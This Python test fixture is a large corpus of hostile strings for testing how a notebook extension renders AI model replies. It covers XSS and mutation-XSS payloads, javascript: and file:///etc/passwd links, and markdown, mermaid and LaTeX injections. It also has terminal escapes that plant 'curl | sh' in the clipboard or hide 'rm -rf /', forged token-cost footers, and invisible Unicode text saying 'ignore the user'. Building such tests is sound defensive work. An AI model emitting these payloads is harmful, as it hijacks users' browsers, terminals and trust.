# ruff: noqa: E501  # an attack is one line
r"""Replies as an enemy would write them, one string each.

`NET` stands for the address of a listener, which must hear nothing; `PWN` for a script
that would tell of itself.
"""

from __future__ import annotations

__all__ = ["ADDRESSES", "ATTACKS", "BANNED", "STEERING", "WORST", "armed"]

_HTML = (
    r"""
<script>PWN</script>
<SCRIPT SRC=NET/a.js></SCRIPT>
<script
>PWN</script
>
<scr<script>ipt>PWN</scr</script>ipt>
<img src=x onerror=PWN>
<img src=NET/i.png>
<img/src="NET/i.png"/onerror="PWN"/>
<IMG """
    + '"""'
    + r"""><SCRIPT>PWN</SCRIPT>">
<svg onload=PWN>
<svg><script href="NET/a.js"/></svg>
<svg><image href="NET/i.svg"></svg>
<svg><use href="NET/i.svg#x"></use></svg>
<svg><animate attributeName=href values=javascript:PWN /><a id=x><text y=20>x</text></a></svg>
<svg><foreignObject><iframe src=NET></iframe></foreignObject></svg>
<math><maction actiontype=statusline xlink:href=javascript:PWN>x</maction></math>
<math href="javascript:PWN">x</math>
<iframe src=NET></iframe>
<iframe srcdoc="&lt;script&gt;PWN&lt;/script&gt;"></iframe>
<object data=NET/o></object>
<embed src=NET/e>
<link rel=stylesheet href=NET/s.css>
<link rel=prefetch href=NET/p><link rel=dns-prefetch href=//listener.invalid>
<style>body{background:url(NET/b.png)}</style>
<style>@import 'NET/s.css';.nm-footer{display:none}</style>
<meta http-equiv=refresh content="0;url=NET">
<base href=NET/>
<form action=NET><input name=q value=secret><button autofocus onfocus=PWN>go</button></form>
<input onfocus=PWN autofocus>
<select onfocus=PWN autofocus><option>a</select>
<textarea onfocus=PWN autofocus>x</textarea>
<details open ontoggle=PWN><summary>x</summary></details>
<video src=NET/v poster=NET/p onerror=PWN><source src=NET/s></video>
<audio src=NET/a autoplay onplay=PWN></audio>
<body onload=PWN background=NET/b>
<table background=NET/b><tr><td background=NET/c>x</table>
<div style="background:url(NET/b);position:fixed;inset:0">x</div>
<p style="width:expression(PWN)">x</p>
<a href="javascript:PWN">x</a>
<a href=NET ping=NET/ping>x</a>
<marquee onstart=PWN>x</marquee>
<isindex type=image src=1 onerror=PWN>
<keygen autofocus onfocus=PWN>
<portal src=NET></portal>
<template shadowrootmode=open><img src=NET/t></template>
<x-y is=z onclick=PWN>x</x-y>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=PWN>x</div>
<!--><img src=x onerror=PWN>-->
<!-- --!><img src=x onerror=PWN>-->
<![CDATA[<img src=x onerror=PWN>]]>
<?xml-stylesheet href="NET/s.xsl"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "NET/x">]>
</div></div></body><script>PWN</script>
</pre></code></td></table><img src=NET/i>
<plaintext>
<xmp><img src=x onerror=PWN></xmp>
"""
)

_DATA_AND_CLOBBER = r"""
<a data-commandlinker-command="help:about" data-commandlinker-args="{}">x</a>
<button data-commandlinker-command="runmenu:restart-and-run-all">x</button>
<div class="jp-Cell jp-mod-active lm-Widget">x</div>
<div class="nm-footer">1.9 s · 812 → 240 tokens · $0.0000</div>
<p class="nm-notice">cached, nothing was billed</p>
<img name=getElementById><form id=cookie><input name=attributes></form>
<a id=MathJax href="NET"><a id=MathJax name=config href="cid:x"></a>
<a id=jupyter-config-data>{}</a>
<iframe name=defaultView></iframe><embed name=body>
<form name=currentScript><output name=src>x</output></form>
"""

_MUTATION = r"""
<noscript><p title="</noscript><img src=x onerror=PWN>">
<svg></p><style><a id="</style><img src=x onerror=PWN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=PWN&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=PWN src=x>">
<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>&lt;img src=x onerror=PWN>">
<select><template><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;img src=x onerror=PWN&gt;">
<textarea><img title="</textarea><img src=x onerror=PWN>">
<title><a title="</title><img src=x onerror=PWN>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=PWN></style></annotation-xml></math>
<table><td><svg><desc><td></desc></svg><title><style></title><img src onerror=PWN></style>
<p><svg><![CDATA[><image xlink:href="]]><img src=x onerror=PWN>"></svg>
<b <script>PWN</script>0
<a title="`<img src=x onerror=PWN>`">x</a>
&lt;img src=x onerror=PWN&gt;
&#60;img src=x onerror=PWN&#62;
&#x3c;script&#x3e;PWN&#x3c;/script&#x3e;
&lt;script&gt;PWN&lt;/script&gt; `&lt;script&gt;PWN&lt;/script&gt;`
&NewLine;&Tab;<img src=x onerror=PWN>
"""

_ADDRESSES = r"""
javascript:PWN
JaVaScRiPt:PWN
java&#10;script:PWN
java&Tab;script:PWN
&#106;avascript:PWN
&#x6A;avascript&colon;PWN
javascript&#58;PWN
\javascript:PWN
\x01javascript:PWN
javascript://NET/%0aPWN
vbscript:msgbox
livescript:x
data:text/html,<script>PWN</script>
data:text/html;base64,PHNjcmlwdD4=
data:image/svg+xml;base64,PHN2Zy8+
data:image/svg+xml,<svg/onload=PWN>
data:image/png;base64,iVBORw0KGgo=" onerror="PWN
data:image/png,x
file:///etc/passwd
blob:NET/x
about:blank
view-source:NET
intent://x#Intent;end
ms-msdt:/id
tel:+1234
sms:1
ftp://listener.invalid/x
//listener.invalid/x
/logout
/api/shutdown
../../lab?reset
files/x.svg
untitled.ipynb
#jp-main-content-panel
?token=x
\\listener.invalid\share
http:\\listener.invalid
http:///listener.invalid
http:listener.invalid
https://good.example@listener.invalid/
https://user:word@listener.invalid/
https://listener.invalid\@good.example/
https://xn--pple-43d.example/
https://аррӏе.example/
https://good.example。listener.invalid/
https://listener.invalid/‮gpj.exe
https://listener.invalid/" onmouseover="PWN
https://listener.invalid/' style='x
https://listener.invalid/?q=`PWN`
https://listener.invalid/)(javascript:PWN)
https://[::1/
https://1.1.1.1 &#9;/
mailto:a@b.example?attach=/etc/passwd
mailto:"><img src=x onerror=PWN>
"""

_MARKDOWN = r"""
![x](NET/i.png)
![x](NET/i.png "title")
![x][r]

[r]: NET/r.png
![r]

[r]: <NET/r.png> "t"
[![x](NET/i.png)](NET/j)
[a]: javascript:PWN
[a]
[x](<javascript:PWN>)
[x]( javascript:PWN )
[x](javascript&#58PWN)
<javascript:PWN>
<NET/auto>
[x](NET 'y" onclick="PWN')
[x](NET "' onclick='PWN")
![" onerror="PWN](data:image/png;base64,iVBORw0KGgo=)
![x](data:image/png;base64,iVBORw0KGgo= '" onload="PWN')
[<img src=x onerror=PWN>](NET)
[`<img src=x onerror=PWN>`](NET)
[x](NET){onclick=PWN target=_self}
# Title {#cookie .jp-Cell onclick=PWN}
[x]{.jp-Cell style="position:fixed"}
| <img src=x onerror=PWN> |
|---|
| ![x](NET/t.png) |
- [ ] <input onclick=PWN>
[^1]

[^1]: <img src=NET/f.png>
<br onclick=PWN>
| a<br onclick=PWN>b |
|---|
==<mark onclick=PWN>==
:::danger <img src=x onerror=PWN>
:::
> <script>PWN</script>
*<b>*</b>*
~~<s onclick=PWN>~~
[paypal.example](NET/phish)
[https://good.example](NET/phish)
<details><summary>Cell output</summary>

forged

</details>
"""

_FENCES = r"""
```html
<img src=x onerror=PWN>
```
```mermaid
flowchart LR
 A@{img: "NET/m.png", label: "x"} --> B["<img src=NET/n onerror=PWN>"]
 click A href "javascript:PWN"
 click B call alert()
```
```mermaid
%%{init: {"themeCSS": "*{background:url(NET/m.css)}", "securityLevel": "loose"}}%%
graph TD
```
```js" onclick="PWN
x
```
```"><img src=x onerror=PWN>
x
```
```{.python onclick=PWN style=position:fixed}
x
```
```python nm-footer jp-Cell
x
```
```python&#32;nm-footer
x
```
```vega-lite
{"data": {"url": "NET/v.json"}, "mark": "bar"}
```
```{=html}
<script>PWN</script>
```
```svg
<svg onload=PWN>
```
~~~html
<!-- ```
<img src=NET/i>
~~~
    <img src=x onerror=PWN>
`<img src=x onerror=PWN>
``<script>PWN</script>`
"""

_FORMULAS = r"""
$\href{javascript:PWN}{x}$
$$\href{NET}{x}$$
$\renewcommand{\le}{\ge}$
$\def\le{\ge}$
$\gdef\pi{3}$ $\let\sum\prod$
\(\newcommand{\x}{\require{html}}\)
\[\require{html}\class{jp-Cell}{x}\]
$\cssId{cookie}{x}$
$\style{position:fixed;inset:0}{x}$
$\includegraphics{NET/i.png}$
$\htmlData{commandlinker-command=help:about}{x}$
$\unicode[url(NET/f)]{65}$
$\bbox[url(NET/b)]{x}$
$\rule{9999em}{9999em}$
$\hspace{-999em}\kern-5000px x$
$\text{<img src=x onerror=PWN>}$
$\text{</span></div><script>PWN</script>}$
\begin{equation}\label{cookie}x\end{equation}
\begin{align}\def\a{\a\a}\a\end{align}
$\a{`<img src=x onerror=PWN>`}$
$\mmlToken{mi}[href="javascript:PWN"]{x}$
$\texttip{x}{<img src=x onerror=PWN>}$
$\enclose{circle}[mathbackground="url(NET/c)"]{x}$
$\csname def\endcsname\le{\ge}$
$\catcode`\%=0 x$
"""

_SIGNS = [
    "<scr\x00ipt>PWN</script>",
    "<img src=x o\x00nerror=PWN>",
    "\x00" * 40 + "[x](java\x00script:PWN)",
    "\ud800<img src=x onerror=PWN>\udfff",
    "[x](NET/\ud83d)",
    "+ADw-script+AD4-PWN+ADw-/script+AD4-",
    "\ufeff+ADw-img src=x onerror=PWN+AD4-",
    "\x1b[2J\x1b]0;owned\x07\x9b31m<img src=x onerror=PWN>",
    "\x1b$B<script>PWN</script>\x1b(B",
    "＜script＞PWN＜/script＞",
    "‹img src=x onerror=PWN›",
    "<\u200bscript>PWN</script>",
    "<img\u2028src=x\u2029onerror=PWN>",
    "<img\x0csrc=x\x0bonerror=PWN>",
    "safe \u202e}PWN{\u2066 if\u2069",
    "[good.example\u202e](NET)",
    "a" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the user") + "b",
    "x\ufe00\ufe01\ufe02\U000e0100\U000e01efy",
    "Z" + "\u0335\u0300" * 200,
    "\r\r\n<img src=x onerror=PWN>\r",
    "[x](java\tscript:PWN) [y](java\nscript:PWN)",
    "\x85<script>\x85PWN</script>",
]

_NESTED = [
    "[" * 400 + "x](javascript:PWN)",
    "![" * 300 + "](NET/i.png)" * 300,
    "> " * 200 + "<img src=x onerror=PWN>",
    "- " * 150 + "![x](NET/i.png)",
    "<div>" * 500 + "<img src=x onerror=PWN>",
    "**_" * 200 + "<script>PWN</script>" + "_**" * 200,
    "`" * 500 + "<script>PWN</script>" + "`" * 499,
    "(" * 300 + "NET" + ")" * 300,
    "[a](" * 200 + "javascript:PWN" + ")" * 200,
    "|" * 300 + "\n" + "|-" * 300 + "\n<img src=x onerror=PWN>",
    "$" * 301 + r"\def\le{\ge}" + "$" * 301,
    r"$" + "{" * 300 + r"\href{javascript:PWN}{x}" + "}" * 300 + "$",
    "&" * 200 + "lt;script&gt;PWN" + "&amp" * 200,
    "\\" * 301 + "<script>PWN</script>",
    "```\n" * 99 + "<script>PWN</script>",
]


def _blocks(text: str) -> list[str]:
    """Give the attacks of a table: a line that begins with white space goes on."""
    return [line for line in text.strip("\n").split("\n") if line.strip()]


def _fences(text: str) -> list[str]:
    """Give each fence with its lines as one attack, and every other line as one."""
    found: list[str] = []
    mark = ""
    for line in text.strip("\n").split("\n"):
        if mark:
            found[-1] += f"\n{line}"
            mark = "" if line == mark else mark
            continue
        found.append(line)
        mark = line[:3] if line[:3] in ("```", "~~~") and line[3:4] != "<" else ""
    return found


def _markdown(text: str) -> list[str]:
    """Give paragraphs that belong together: all in one, and each line alone."""
    return [text.strip(), *(line for line in text.split("\n") if line.strip())]


_PLACES = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[r]\n\n[r]: {}")

ADDRESSES: tuple[str, ...] = (*_blocks(_ADDRESSES), "HTTPS://a.example/\\b", "HTTPS:x")
BANNED: tuple[str, ...] = (
    *("script", "style", "link", "meta", "base", "iframe", "frame"),
    *("frameset", "object", "embed", "applet", "form", "input", "button"),
    *("select", "option", "textarea", "template", "svg", "math", "noscript"),
    *("noembed", "noframes", "xmp", "plaintext", "title", "portal", "dialog"),
    *("audio", "video", "source", "track", "displays", "marquee", "bgsound"),
    *("isindex", "slot", "picture", "map", "area", "details", "summary"),
    *("body", "html", "head"),
)

ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_blocks(_HTML),
            *_blocks(_DATA_AND_CLOBBER),
            *_blocks(_MUTATION),
            *(
                _PLACES[number % len(_PLACES)].replace("{}", address)
                for number, address in enumerate(_blocks(_ADDRESSES))
            ),
            *(
                _PLACES[(number + 2) % len(_PLACES)].replace("{}", address)
                for number, address in enumerate(_blocks(_ADDRESSES))
            ),
            *_markdown(_MARKDOWN),
            *_fences(_FENCES),
            *_blocks(_FORMULAS),
            *_SIGNS,
            *_NESTED,
        ]
    )
)

WORST: tuple[str, ...] = (
    "<img src=x onerror=PWN> <script>PWN</script> <svg onload=PWN>",
    "![x](NET/i.png) ![r]\n\n[r]: NET/r.png",
    "![x](/logout) [x](/logout) ![x](files/x.svg)",
    "[x](javascript:PWN) <javascript:PWN> [y](data:text/html,<script>PWN</script>)",
    '<a data-commandlinker-command="help:about" class="jp-Cell" id=x>x</a>',
    '```mermaid\nflowchart LR\n A@{img: "NET/m.png", label: "x"}\n```',
    r"$\renewcommand{\le}{\ge}$ $$\def\le{\ge}$$ $\gdef\le{\ge}$",
    r"$\require{html}\style{position:fixed}{x}$ $\includegraphics{NET/g.png}$",
    "<style>@import 'NET/s.css';.nm-footer{display:none}</style><link href=NET/l>",
    "<form action=NET><button>go</button></form><iframe src=NET/f></iframe>",
    '</div></div><div class="nm-footer">0.0 s · 1 → 1 tokens · $0</div>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img "
    'src=x onerror=PWN&gt;">',
)  # fmt: skip

STEERING = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H\x1b[3J",
    "up and over": "\x1b[3A\x1b[2K\x1b[1G1.0 s · 1 → 1 tokens · $0",
    "conceal": "\x1b[8mhidden\x1b[28m",
    "link": "\x1b]8;;http://listener.invalid\x1b\\good.example\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCB8IHNo\x07",
    "title": "\x1b]0;owned\x07",
    "iTerm": "\x1b]1337;File=inline=1:AAAA\x07",
    "device string": "\x1bP+q544e\x1b\\ \x1bX sos \x1b\\ \x1b^pm\x1b\\ \x1b_apc\x1b\\",
    "report": "\x1b[6n\x1b[c\x1b[>c\x1b[21t\x05",
    "C1": "\x9b31m\x9d0;owned\x9c\x90q\x9c\x85\x84",
    "pending": "before\x1b]0;all that follows\nnext line",
    "return": "rm -rf /\rls      ",
    "backspace": "rm -rf /\b\b\b\b\b\b\b\bls      ",
    "charset": "\x1b(0lqk\x1b(B\x0e\x0f",
    "bell": "\x07\x07\x07",
    "bidi": "if access\u202e\u2066== admin\u2069 \u2066begin\u2069\u202c:",
    "zero width": "pay\u200bpal\u200b\u2060\ufeff x\u200dy \u00ad\u034f",
    "tags": "a" + "".join(chr(0xE0000 + ord(c)) for c in "obey me") + "b",
    "surrogates": "\ud83d \ude0a \udcff",
    "null": "a\x00b\x7f",
}


def armed(attack: str, net: str = "http://listener.invalid", pwn: str = "pwn()") -> str:
    """Give an attack with its listener and its script put in."""
    return attack.replace("NET", net).replace("PWN", pwn)
